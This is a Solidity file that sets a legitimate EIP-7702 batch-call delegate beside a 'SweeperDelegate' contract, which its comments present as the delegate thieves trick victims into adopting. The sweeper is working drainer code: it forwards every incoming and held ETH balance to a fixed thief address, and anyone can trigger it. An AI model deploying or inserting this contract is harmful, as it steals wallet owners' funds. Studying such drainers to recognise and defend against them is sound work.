// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

/// What an account puts on (EIP-7702) to make several calls at once. Only the account itself commands it.
contract WalletDelegate {
    receive() external payable {}

    function executeBatch(address[] calldata targets, uint256[] calldata values, bytes[] calldata data) external payable {
        require(msg.sender == address(this), "not the account");
        for (uint256 i = 0; i < targets.length; i++) {
            (bool done, ) = targets[i].call{value: values[i]}(data[i]);
            require(done, "failed");
        }
    }
}

/// What thieves make a victim put on: whatever comes goes on to them.
contract SweeperDelegate {
    address payable private immutable thief;

    constructor(address payable thief_) {
        thief = thief_;
    }

    receive() external payable {
        sweep();
    }

    function sweep() public {
        (bool sent, ) = thief.call{value: address(this).balance}("");
        require(sent, "failed");
    }
}
